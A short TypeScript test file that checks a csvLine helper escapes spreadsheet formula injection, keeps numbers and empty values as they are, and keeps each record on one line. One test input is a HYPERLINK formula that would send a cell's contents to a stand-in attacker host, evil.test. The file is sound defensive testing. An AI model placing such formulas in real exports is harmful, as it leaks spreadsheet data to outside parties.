import { describe, expect, it } from "vitest";
import { csvLine } from "./csv.ts";

describe("csvLine", () => {
  it.each([
    ['=HYPERLINK("http://evil.test/?"&A1,"ok")', `"'=HYPERLINK(""http://evil.test/?""&A1,""ok"")"`],
    ["@SUM(1)", "'@SUM(1)"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1", "'\\n=1"],
    ["\n=1", "'\\n=1"],
    ["＝1", "'＝1"],
  ])("defuses %j", (text, cell) => {
    expect(csvLine([text])).toBe(`${cell}\r\n`);
  });

  it("leaves numbers numbers, empties empty, and ordinary text as it is", () => {
    expect(csvLine([-1, 0.5, true, null, undefined, "a-b", "2026-01-01T00:00:00.000Z", ""])).toBe(
      "-1,0.5,true,,,a-b,2026-01-01T00:00:00.000Z,\r\n",
    );
  });

  it("keeps one record on one line, whatever stands in it", () => {
    const line = csvLine(['a title, "quoted"\r\nand\nmore', "x"]);
    expect(line).toBe('"a title, ""quoted""\\nand\\nmore",x\r\n');
    expect(line.trimEnd()).not.toMatch(/[\r\n]/);
  });
});
